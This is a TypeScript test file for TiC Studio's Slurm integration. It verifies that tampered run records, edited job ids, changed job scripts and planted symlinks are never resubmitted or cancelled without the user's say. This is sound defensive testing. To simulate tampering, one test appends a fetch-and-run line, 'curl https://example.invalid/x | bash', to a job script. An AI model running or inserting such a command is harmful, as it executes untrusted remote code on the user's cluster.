import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RunClaims } from '../../../../src/runs/runClaims';
import type { RunRecord } from '../../../../src/runs/model/runRecord';
import { RunRecordStore, runRecordsDir } from '../../../../src/runs/model/runRecordStore';
import { SlurmCommands } from '../../../../src/runs/slurm/slurmCommands';
import { SlurmError } from '../../../../src/runs/model/slurmError';
import { SlurmScheduler } from '../../../../src/runs/slurm/slurmScheduler';
import { ddpProbePlan } from '../../../support/ddpProbePlan';
import { claimSlurmRun, slurmRunRecord } from '../../../support/slurmRunRecord';

/**
 * A run record in `.tic-studio/runs/` is the workspace's word, and a repository or a colleague can write it: it can
 * name anyone's job, any script, and ask for auto-resume. TiC Studio submits and cancels only what this user's
 * state folder (outside the workspace) says TiC Studio submitted. The Slurm clients are stand-ins on PATH, real
 * child processes: squeue says job 41 hit its time limit (or runs), sbatch keeps what it was given on stdin, and
 * scancel writes its arguments to a file, so "never called" is the file's absence.
 */
describe('Slurm: only jobs and scripts this user submitted through TiC Studio', () => {
  let root: string;
  let stateDir: string;
  let bin: string;
  let store: RunRecordStore;
  const schedulers: SlurmScheduler[] = [];
  const id = '20261129-030000-train-abc123';
  const host = 'login1';
  const submitted = new Date(Date.now() - 120_000);
  const script = '#!/bin/bash\n#SBATCH --nodes=1\nsrun torchrun train.py\n';

  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'tic-slurm-owned-'));
    stateDir = mkdtempSync(join(tmpdir(), 'tic-slurm-owned-state-'));
    bin = join(root, 'bin');
    mkdirSync(bin);
    mkdirSync(runRecordsDir(root), { recursive: true });
    store = new RunRecordStore(runRecordsDir(root));
    squeueSays('TIMEOUT');
    // Keeps what each submission would run (the script on stdin, or the file it names) and its arguments; job 42.
    program(
      'sbatch',
      `n=$(ls ${q(bin)} | grep -c '^sbatch-stdin-'); echo "$*" > ${q(bin)}/sbatch-args-$n
if [ $# -gt 1 ]; then /bin/cat "\${@: -1}"; else /bin/cat; fi > ${q(bin)}/sbatch-stdin-$n; echo 42`,
    );
    program('scancel', `echo "$*" >> ${q(join(bin, 'scancel-calls'))}`);
  });
  afterEach(() => {
    for (const s of schedulers.splice(0)) s.dispose();
    rmSync(root, { recursive: true, force: true });
    rmSync(stateDir, { recursive: true, force: true });
  });

  const q = (s: string) => JSON.stringify(s);
  function program(name: string, body: string): void {
    const path = join(bin, name);
    writeFileSync(path, `#!/bin/bash\n${body}\n`);
    chmodSync(path, 0o755);
  }
  /** Job 41 is in `state`; once scancel has run, CANCELLED (so a stop that should not have happened ends). */
  function squeueSays(state: 'TIMEOUT' | 'RUNNING'): void {
    const at = (date: Date) => date.toISOString().slice(0, 19);
    const end = state === 'RUNNING' ? 'N/A' : at(new Date());
    program(
      'squeue',
      `for a in "$@"; do [ "$a" = --json ] && { echo "squeue: unrecognized option '--json'" >&2; exit 1; }; done
[ -e ${q(join(bin, 'scancel-calls'))} ] && { echo "41|CANCELLED|None|node07|0|${at(submitted)}|${at(new Date())}|train 2017"; exit 0; }
echo "41|${state}|${state === 'TIMEOUT' ? 'TimeLimit' : 'None'}|node07|0|${at(submitted)}|${end}|train 2017"`,
    );
  }
  /** What sbatch received on stdin, one entry per call. */
  function submissions(): string[] {
    return readdirSync(bin)
      .filter((f) => f.startsWith('sbatch-stdin-'))
      .sort()
      .map((f) => readFileSync(join(bin, f), 'utf8'));
  }
  function sbatchArgs(): string[] {
    return readdirSync(bin)
      .filter((f) => f.startsWith('sbatch-args-'))
      .map((f) => readFileSync(join(bin, f), 'utf8').trim());
  }
  function scheduler(options: { trusted?: boolean; mayStop?: () => boolean } = {}): SlurmScheduler {
    const s = new SlurmScheduler({
      workspaceRoot: root,
      isTrusted: () => options.trusted ?? true,
      ...(options.mayStop ? { mayStop: options.mayStop } : {}),
      commands: new SlurmCommands({ env: { PATH: bin } }),
      hostname: () => host,
      stateDir,
      pollMs: 50,
    });
    schedulers.push(s);
    return s;
  }
  const claims = () => new RunClaims({ stateDir, workspaceRoot: root, host });

  /** A training run on host login1 whose job 41 saved a checkpoint, with auto-resume on: a resubmission is due. */
  async function timedOutRun(slurm: Partial<NonNullable<RunRecord['slurm']>> = {}): Promise<RunRecord> {
    const outputDir = join(root, 'results', 'cumulative_2017');
    mkdirSync(join(outputDir, 'checkpoints'), { recursive: true });
    writeFileSync(join(outputDir, 'checkpoints', 'epoch_latest.pt'), 'stand-in checkpoint');
    const record = slurmRunRecord(
      root,
      id,
      {
        host,
        status: 'running',
        createdAt: submitted.toISOString(),
        startedAt: submitted.toISOString(),
        outputDir,
      },
      { state: 'RUNNING', nodes: 'node07', autoResume: true, maxResubmits: 3, ...slurm },
    );
    await store.write(record);
    return record;
  }

  async function slurmError(promise: Promise<unknown>): Promise<SlurmError> {
    try {
      await promise;
    } catch (error) {
      assert.ok(error instanceof SlurmError, String(error));
      return error;
    }
    assert.fail('expected a SlurmError');
  }

  describe('auto-resume', () => {
    it('never resubmits a planted record (no claim in the state folder) and says why', async () => {
      const record = await timedOutRun();
      writeFileSync(record.slurm!.scriptPath, script);
      await scheduler().refresh();

      assert.deepEqual(submissions(), [], 'sbatch never called');
      const after = (await store.read(id)) as RunRecord;
      assert.equal(after.status, 'failed');
      assert.equal(after.slurm?.jobId, '41');
      assert.equal(after.slurm?.notResubmitted, 'notOurs');
      assert.match(
        after.failure?.detail ?? '',
        /TIMEOUT \(TimeLimit\).*job 41; not resubmitted: job 41 was not submitted by TiC Studio as you on this host/,
      );
    });

    it('does not resubmit a job the claim does not list (the record was edited to name another job)', async () => {
      const record = await timedOutRun();
      await claimSlurmRun(stateDir, root, { ...record, slurm: { ...record.slurm!, jobIds: ['40'] } }, script);
      await scheduler().refresh();
      assert.deepEqual(submissions(), []);
      assert.equal(((await store.read(id)) as RunRecord).slurm?.notResubmitted, 'notOurs');
    });

    it('does not resubmit a script changed after submission; submits it only when the user, shown it, says so', async () => {
      const record = await timedOutRun();
      await claimSlurmRun(stateDir, root, record, script);
      const changed = `${script}curl https://example.invalid/x | bash\n`;
      writeFileSync(store.scriptPath(id), changed);
      const s = scheduler();
      await s.refresh();

      assert.deepEqual(submissions(), [], 'sbatch never called');
      const held = (await store.read(id)) as RunRecord;
      assert.equal(held.status, 'failed');
      assert.equal(held.slurm?.notResubmitted, 'scriptChanged');
      assert.match(held.failure?.detail ?? '', /not resubmitted: the job script changed since it was submitted/);

      // "Submit Anyway": the script as it is now is shown, and exactly those bytes are submitted.
      const shown = await s.currentScript(id);
      assert.ok('content' in shown);
      assert.equal(shown.content.toString('utf8'), changed);
      const again = await s.resubmitShown(id, shown.content);
      assert.equal(again.status, 'queued');
      assert.equal(again.slurm?.jobId, '42');
      assert.deepEqual(again.slurm?.jobIds, ['41', '42']);
      assert.equal(again.slurm?.notResubmitted, undefined);
      assert.equal(again.failure, undefined);
      assert.deepEqual(submissions(), [changed]);
      const claim = await claims().read(id);
      assert.deepEqual(claim?.slurm?.jobIds, ['41', '42']);
      assert.equal(claim?.slurm?.scriptSha256, createHash('sha256').update(changed).digest('hex'));
    });

    it('submits the script derived from the run id, never the file a record’s scriptPath names', async () => {
      const elsewhere = join(root, 'not-tic', 'evil.sh');
      mkdirSync(join(root, 'not-tic'));
      writeFileSync(elsewhere, '#!/bin/bash\necho evil\n');
      const record = await timedOutRun({ scriptPath: elsewhere });
      await claimSlurmRun(stateDir, root, record, script);
      await scheduler().refresh();

      assert.deepEqual(submissions(), [script], 'the script TiC Studio wrote for the run, as written');
      assert.ok(!sbatchArgs().some((a) => a.includes('evil')), sbatchArgs().join('\n'));
      assert.equal(((await store.read(id)) as RunRecord).slurm?.jobId, '42');
    });

    it('does not follow a link planted in place of the script, even to the very bytes that were submitted', async () => {
      const record = await timedOutRun();
      await claimSlurmRun(stateDir, root, record, script);
      const copy = join(root, 'copy.sbatch');
      writeFileSync(copy, script);
      rmSync(store.scriptPath(id));
      symlinkSync(copy, store.scriptPath(id));
      await scheduler().refresh();

      assert.deepEqual(submissions(), []);
      const after = (await store.read(id)) as RunRecord;
      assert.equal(after.slurm?.notResubmitted, 'scriptUnusable');
      assert.match(after.failure?.detail ?? '', /not resubmitted: the job script cannot be used: .* is a link/);
    });
  });

  describe('stop', () => {
    beforeEach(() => squeueSays('RUNNING'));

    it('never cancels the job of a planted record: refused as not ours, scancel not run, record untouched', async () => {
      const record = await timedOutRun({ state: 'RUNNING' });
      const before = readFileSync(store.recordPath(id), 'utf8');
      const error = await slurmError(scheduler().stop(record.id));
      assert.equal(error.reason, 'notOwned');
      assert.match(error.message, /Slurm job 41 was not submitted by TiC Studio as you/);
      assert.equal(existsSync(join(bin, 'scancel-calls')), false, 'scancel never called');
      assert.equal(readFileSync(store.recordPath(id), 'utf8'), before);
    });

    it('never cancels a job id the claim does not list (a record of ours edited to name someone else’s job)', async () => {
      const record = await timedOutRun({ state: 'RUNNING' });
      await claimSlurmRun(stateDir, root, { ...record, slurm: { ...record.slurm!, jobIds: ['40'] } }, script);
      assert.equal((await slurmError(scheduler().stop(record.id))).reason, 'notOwned');
      assert.equal(existsSync(join(bin, 'scancel-calls')), false, 'scancel never called');
    });

    it('refuses in an untrusted workspace (mayStop defaults to trust); cancels our own job where allowed', async () => {
      const record = await timedOutRun({ state: 'RUNNING' });
      await claimSlurmRun(stateDir, root, record, script);
      const untrusted = await slurmError(scheduler({ trusted: false }).stop(record.id));
      assert.equal(untrusted.reason, 'untrusted');
      assert.match(untrusted.message, /^The workspace is not trusted; /);
      assert.equal(existsSync(join(bin, 'scancel-calls')), false, 'scancel never called');

      // The CLI's `tic-studio stop`: no trusted window, but the user asked on a terminal; our job is cancelled.
      const stopped = await scheduler({ trusted: false, mayStop: () => true }).stop(record.id);
      assert.equal(readFileSync(join(bin, 'scancel-calls'), 'utf8'), '41\n');
      assert.equal(stopped.status, 'stopped');
    });
  });

  describe('submission', () => {
    it('records the script’s sha256 and the job id in the claim, and submits the very bytes it wrote', async () => {
      const plan = ddpProbePlan(root, { nodes: 1, workersPerNode: 1 });
      const started = await scheduler().start(plan);
      const written = readFileSync(store.scriptPath(started.id), 'utf8');
      assert.deepEqual(submissions(), [written]);
      const claim = await claims().read(started.id);
      assert.deepEqual(claim?.slurm, {
        jobIds: ['42'],
        scriptSha256: createHash('sha256').update(written).digest('hex'),
      });
    });

    it('never writes a script through a link planted at its path', async () => {
      const victim = join(root, 'victim.txt');
      writeFileSync(victim, 'keep me\n');
      const plannedId = '20261129-040000-train-def456';
      symlinkSync(victim, store.scriptPath(plannedId));
      const plan = { ...ddpProbePlan(root, { nodes: 1, workersPerNode: 1 }), id: plannedId };
      const error = await slurmError(scheduler().start(plan));
      assert.match(error.message, /already there/);
      assert.equal(readFileSync(victim, 'utf8'), 'keep me\n');
      assert.ok(lstatSync(store.scriptPath(plannedId)).isSymbolicLink());
      assert.deepEqual(submissions(), []);
    });
  });
});
